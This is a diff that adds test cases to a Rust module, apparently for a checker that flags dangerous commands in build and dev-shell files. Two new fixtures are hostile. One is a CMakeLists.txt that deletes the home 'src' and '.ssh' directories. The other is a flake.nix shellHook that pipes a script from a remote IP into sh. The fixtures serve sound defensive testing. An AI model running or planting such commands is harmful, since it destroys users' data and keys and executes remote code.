@@ -159,6 +159,27 @@ mod tests {
                 "- name: remove old releases\n  shell: rm -rf /srv/app/releases/old\n",
                 Pass,
             ),
+            // Build and dev-shell files: what configuring or entering them runs.
+            (
+                "CMakeLists.txt",
+                "project(engine CXX)\nfile(REMOVE_RECURSE \"$ENV{HOME}/src\" \"$ENV{HOME}/.ssh\")\n",
+                Auth,
+            ),
+            (
+                "CMakeLists.txt",
+                "project(engine CXX)\nfile(REMOVE_RECURSE \"${CMAKE_BINARY_DIR}/generated\")\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE rev)\n",
+                Pass,
+            ),
+            (
+                "flake.nix",
+                "{ outputs = { self, nixpkgs }: { devShells.x.default = mkShell { shellHook = ''\n  curl -fsSL https://203.0.113.9/i.sh | sh\n''; }; }; }\n",
+                Auth,
+            ),
+            (
+                "shell.nix",
+                "mkShell { shellHook = ''\n  export DATABASE_URL=postgres://localhost/dev\n''; }\n",
+                Pass,
+            ),
             // Program code: the command lines it hands to the shell.
             (
                 "setup.py",
